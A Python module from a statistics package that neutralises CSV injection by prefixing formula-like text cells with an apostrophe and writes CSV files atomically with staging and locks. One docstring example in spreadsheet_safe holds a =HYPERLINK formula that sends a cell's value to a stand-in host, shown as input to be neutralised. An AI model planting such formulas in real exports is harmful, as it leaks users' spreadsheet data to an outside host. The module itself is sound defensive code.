"""Spreadsheet-safe exports: text a spreadsheet would run as a formula, neutralised.

:func:`spreadsheet_safe`, :func:`spreadsheet_safe_frame` and :func:`write_safe_csv`
neutralise text cells that start like a formula (CSV injection) without changing any
number; :func:`write_safe_csv` writes the file under a staging name and renames it
into place, so a reader never sees half a file.
"""

from __future__ import annotations

import math
import numbers
import os
import re
from collections.abc import Hashable
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import numpy as np

from optamstats._checks import InvalidTypeError, InvalidValueError, OptamstatsError, _show

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "FORMULA_TRIGGERS",
    "spreadsheet_safe",
    "spreadsheet_safe_frame",
    "write_safe_csv",
]


#: First characters that make a spreadsheet read a text cell as a formula (OWASP, ASVS
#: 1.2.10), plus line feed and NUL, which some applications strip before parsing.
FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


# A text cell that is a plain number (optionally signed, decimal point or comma,
# thousands spaces, exponent) is data, not a formula: "-3", "-3,5", "+2.5e-3",
# "-1 234". It holds no function name, reference or operator beyond its sign, so
# nothing can run; leaving it alone keeps negative numbers readable as numbers.
_NUMBER: Final = re.compile(
    r"[+-]?(?:\d(?:[\d \u00a0\u202f]*\d)?(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?"
)


# Leading characters a spreadsheet may skip before reading "=": spaces of any kind.
_LEADING_SPACE: Final = " \u00a0\u202f\u2007\u2009\ufeff"


def spreadsheet_safe(value: Any) -> Any:
    r"""Return `value` unchanged, unless it is text a spreadsheet would run as a formula.

    Text starting with ``=``, ``+``, ``-``, ``@``, tab, carriage return (OWASP), line
    feed or NUL — after any leading spaces — gets a leading apostrophe, which
    spreadsheets read as "this cell is text". Numbers are never changed: a number
    (``-3``, ``2.5``, numpy scalars) is returned as it is, and so is text that is
    only a number (``"-3"``, ``"-3,5"``, ``"+1e-3"``): it cannot call anything.

    Parameters
    ----------
    value : object
        One cell.

    Returns
    -------
    object
        `value`, or ``"'" + value`` for formula-like text.

    Notes
    -----
    The apostrophe stays visible in a text editor and in some viewers. Excel hides it,
    and drops it when the file is saved again from Excel: the re-saved file is no
    longer neutralised.

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
    .. [2] OWASP Application Security Verification Standard 5.0, requirement 1.2.10.
    .. [3] MITRE, CWE-1236, "Improper Neutralization of Formula Elements in a CSV File".

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1, "clic")')
    '\'=HYPERLINK("http://x.example/?"&A1, "clic")'
    >>> spreadsheet_safe("-3 + cmd")
    "'-3 + cmd"
    >>> spreadsheet_safe("-3"), spreadsheet_safe(-3), spreadsheet_safe("Pédiatrie")
    ('-3', -3, 'Pédiatrie')
    """
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(_LEADING_SPACE)
    if not stripped or stripped[0] not in FORMULA_TRIGGERS:
        return value
    if _NUMBER.fullmatch(stripped.strip(_LEADING_SPACE)):
        return value
    return "'" + value


def _safe_label(label: Hashable) -> Hashable:
    if isinstance(label, tuple):
        return tuple(_safe_label(part) for part in label)
    return spreadsheet_safe(label)  # type: ignore[no-any-return]


def spreadsheet_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of `frame` whose text cells and labels are spreadsheet-safe.

    Every text cell, column label and index label goes through
    :func:`spreadsheet_safe`; numeric columns are returned untouched.

    Parameters
    ----------
    frame : pandas.DataFrame
        A table about to be exported.

    Returns
    -------
    pandas.DataFrame
        A neutralised copy.

    Raises
    ------
    InvalidTypeError
        `frame` is not a DataFrame.

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"answer": ["=1+1", "ok", "-2"], "n": [-3, 4, 5]})
    >>> spreadsheet_safe_frame(df)
      answer  n
    0  '=1+1 -3
    1     ok  4
    2     -2  5
    """
    import pandas as pd

    if not isinstance(frame, pd.DataFrame):
        raise InvalidTypeError(
            f"`frame` must be a pandas DataFrame; got {_show(frame)} ({type(frame).__name__})."
        )
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if column.dtype.kind in "biufcmM":  # numbers, booleans, dates: never formulas
            continue
        cells = [spreadsheet_safe(v) for v in column.to_numpy(dtype=object)]
        # Same dtype, so that missing values stay as they were (None, NaN, <NA>).
        out.isetitem(position, pd.Series(cells, index=out.index, dtype=column.dtype).array)
    out.columns = pd.Index([_safe_label(c) for c in out.columns], tupleize_cols=False)
    out.index = pd.Index([_safe_label(i) for i in out.index], tupleize_cols=False)
    return out


def _csv_value(value: Any) -> Any:
    """One cell for the csv module: numbers as numbers, missing as empty, text neutralised."""
    import pandas as pd

    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return ""
        if math.isinf(value):  # "-inf" would be read as a formula: write it as text
            return spreadsheet_safe(str(value))
        return value
    if isinstance(value, int):
        return value
    if isinstance(value, numbers.Real):  # Decimal, Fraction: exact text, not a float
        return str(value)
    return spreadsheet_safe(value if isinstance(value, str) else str(value))


def _csv_column(column: pd.Series) -> list[Any]:
    """Return a column's cells for the csv module; numeric columns converted whole."""
    kind = column.dtype.kind
    if kind in "iu" and isinstance(column.dtype, np.dtype):  # no missing values
        return column.tolist()
    if kind == "f" and isinstance(column.dtype, np.dtype):
        values = column.to_numpy(dtype=np.float64)
        cells: list[Any] = values.tolist()
        for i in np.flatnonzero(~np.isfinite(values)).tolist():
            cells[i] = _csv_value(cells[i])
        return cells
    return [_csv_value(v) for v in column.tolist()]


# Files and folders are written under a temporary name beside their target and renamed
# into place. A run killed with SIGKILL cannot remove its staging, so the name says
# whose it is (".<target>.optamstats-<hex>.partial") and the next run in the same
# folder removes the stale ones. A live writer must never lose its staging to that
# clean-up: writers hold a shared flock(2) on the folder while they stage, and the
# clean-up runs only when it gets the exclusive lock, i.e. when no writer is alive
# there (the kernel drops the locks of a killed process).

_STAGING: Final = re.compile(r"\..*\.optamstats-[0-9a-f]{12}\.partial")


class _OutputError(OptamstatsError, OSError):
    """A file or folder that cannot be written: names the path and the fix.

    Also an ``OSError``, as the failure it reports (a full disk, no rights) is one; its
    ``errno`` is the original one.
    """

    def __str__(self) -> str:
        return str(self.args[0])  # the message, not OSError's "[Errno 28] ..." form


def _staging_name(target: Path) -> str:
    import secrets

    # Bounded so that the staging name stays under NAME_MAX (255 bytes) when the
    # target's name is long.
    stem = target.name[:100]
    return f".{stem}.optamstats-{secrets.token_hex(6)}.partial"


def _lock_folder(folder: Path) -> int | None:
    """Open `folder` and hold a shared lock on it; None where locks are not available."""
    try:
        import fcntl
    except ImportError:  # pragma: no cover - Windows: no flock, no clean-up
        return None
    try:
        fd = os.open(folder, os.O_RDONLY)
    except OSError:
        return None
    try:
        try:  # No live writer here: any staging entry is stale.
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
        else:
            _remove_stale(folder)
        fcntl.flock(fd, fcntl.LOCK_SH)  # converts (or waits for another clean-up)
    except OSError:  # a file system without flock (some network mounts)
        os.close(fd)
        return None
    return fd


def _remove_stale(folder: Path) -> None:
    """Remove the staging files and folders of killed writers (called under LOCK_EX)."""
    import shutil

    try:
        entries = list(os.scandir(folder))
    except OSError:
        return
    for entry in entries:
        if not _STAGING.fullmatch(entry.name):
            continue
        try:
            if entry.is_dir(follow_symlinks=False):
                shutil.rmtree(entry.path, ignore_errors=True)
            else:
                os.unlink(entry.path)
        except OSError:
            continue


def _unlock_folder(fd: int | None) -> None:
    if fd is not None:
        os.close(fd)  # closing the descriptor releases its flock


def _output_error(exc: OSError, path: Path, what: str) -> _OutputError:
    """Return the error to raise for an OSError met while writing `what` at `path`."""
    import errno

    reason = exc.strerror or str(exc)
    if exc.errno in (errno.ENOSPC, errno.EDQUOT):
        fix = "free some space on that disk, or write to a folder on another disk"
    elif exc.errno in (errno.EACCES, errno.EPERM, errno.EROFS):
        fix = "write to a folder you can write to"
    else:
        fix = "check the path, or write somewhere else"
    other = os.fspath(exc.filename) if isinstance(exc.filename, str | os.PathLike) else ""
    # A staging path means nothing to the user: name only a path they would know.
    shown = other and other != str(path) and not any(map(_STAGING.fullmatch, Path(other).parts))
    where = f" ({other})" if shown else ""
    error = _OutputError(f"{what} {str(path)!r} could not be written: {reason}{where}; {fix}.")
    error.errno, error.strerror = exc.errno, reason
    return error


def write_safe_csv(
    frame: pd.DataFrame,
    path: str | os.PathLike[str],
    *,
    sep: str = ",",
    encoding: str = "utf-8-sig",
    index: bool = False,
) -> Path:
    """Write a DataFrame as CSV that a spreadsheet can open without running formulas.

    Text cells and labels are neutralised with :func:`spreadsheet_safe`; every text
    field is quoted (RFC 4180), numbers are written as numbers, missing values as empty
    cells. The file is written beside `path` under a temporary name and renamed into
    place: an interrupted run leaves no partial file, and the temporary file of a run
    killed outright (SIGKILL) is removed by the next call writing into that folder. The
    file gets the permissions of any new file (``0o666`` less the umask).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table.
    path : path
        The CSV file to write (replaced if it exists).
    sep : str, default ","
        Field separator; ``";"`` is what a French Excel opens directly.
    encoding : str, default "utf-8-sig"
        UTF-8 with a byte-order mark, which Excel needs to read accents.
    index : bool, default False
        Whether to write the index as a first column.

    Returns
    -------
    pathlib.Path
        The file written.

    Raises
    ------
    InvalidTypeError
        `frame` is not a DataFrame, `index` not a boolean.
    InvalidValueError
        A `sep` that is not one character other than a quote or a line break, an
        `encoding` Python does not know or that cannot write the table's text.
    OSError
        The file cannot be written (no such folder, no rights, a full disk): an
        :class:`~optamstats.OptamstatsError` too, whose message names `path` and the fix.

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
    .. [2] Y. Shafranovich, "Common Format and MIME Type for Comma-Separated Values
       (CSV) Files", RFC 4180, 2005.

    Examples
    --------
    >>> import pandas as pd, pathlib, tempfile
    >>> df = pd.DataFrame({"answer": ["=1+1", "-3"], "n": [-3, 4]})
    >>> path = write_safe_csv(df, pathlib.Path(tempfile.mkdtemp()) / "t.csv")
    >>> print(path.read_text("utf-8-sig"), end="")
    "answer","n"
    "'=1+1",-3
    "-3",4
    """
    import codecs
    import csv

    import pandas as pd

    if not isinstance(frame, pd.DataFrame):
        raise InvalidTypeError(
            f"`frame` must be a pandas DataFrame; got {_show(frame)} ({type(frame).__name__})."
        )
    if not isinstance(sep, str) or len(sep) != 1 or sep in '"\r\n':
        raise InvalidValueError(
            f"`sep` must be one character other than a quote or a line break, such as ',' "
            f"or ';'; got {_show(sep)}."
        )
    if not isinstance(index, bool | np.bool_):
        raise InvalidTypeError(f"`index` must be True or False; got {_show(index)}.")
    try:
        codecs.lookup(encoding)
    except (LookupError, TypeError, ValueError):  # unknown, not a string, a NUL
        raise InvalidValueError(
            f"`encoding` must be an encoding Python knows, such as 'utf-8-sig'; "
            f"got {_show(encoding)}."
        ) from None
    target = Path(path)
    header = [_csv_value(c if isinstance(c, str) else str(c)) for c in frame.columns]
    if index:
        header.insert(0, _csv_value(str(frame.index.name or "")))
    folder = target.parent
    lock = _lock_folder(folder)
    staging: Path | None = None
    try:
        while True:
            staging = folder / _staging_name(target)
            try:
                # Mode 0o666 less the umask, as open() gives any new file (mkstemp's
                # 0o600 made every table private).
                handle = os.open(staging, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
            except FileExistsError:  # pragma: no cover - 48 random bits
                continue
            break
        with os.fdopen(handle, "w", encoding=encoding, newline="") as out:
            writer = csv.writer(out, delimiter=sep, quoting=csv.QUOTE_NONNUMERIC,
                                lineterminator="\r\n")  # fmt: skip
            writer.writerow(header)
            columns = [_csv_column(frame.iloc[:, j]) for j in range(frame.shape[1])]
            if index:
                columns.insert(0, [_csv_value(v) for v in frame.index])
            writer.writerows(zip(*columns, strict=True))
        os.replace(staging, target)
    except UnicodeEncodeError as exc:
        _discard(staging)
        raise InvalidValueError(
            f"`encoding` {encoding!r} cannot write the character {exc.object[exc.start]!r} of "
            f"the table; use 'utf-8-sig'."
        ) from None
    except OSError as exc:
        _discard(staging)
        if isinstance(exc, OptamstatsError):
            raise
        raise _output_error(exc, target, "the CSV file `path`") from None
    except BaseException:
        _discard(staging)
        raise
    finally:
        _unlock_folder(lock)
    return target


def _discard(path: Path | None) -> None:
    import contextlib

    if path is not None:
        with contextlib.suppress(OSError):  # the folder itself went away: nothing left
            path.unlink(missing_ok=True)
